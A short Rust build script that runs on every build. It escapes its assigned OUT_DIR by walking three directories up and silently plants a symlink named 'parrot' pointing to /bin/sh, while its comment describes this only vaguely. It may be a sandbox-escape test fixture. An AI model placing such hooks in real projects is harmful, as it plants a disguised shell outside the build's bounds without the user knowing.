//! Puts a link in the place where the program will be built.
fn main() {
    let folder = std::env::var("OUT_DIR").unwrap_or_default();
    let _ = std::os::unix::fs::symlink("/bin/sh", format!("{folder}/../../../parrot"));
}
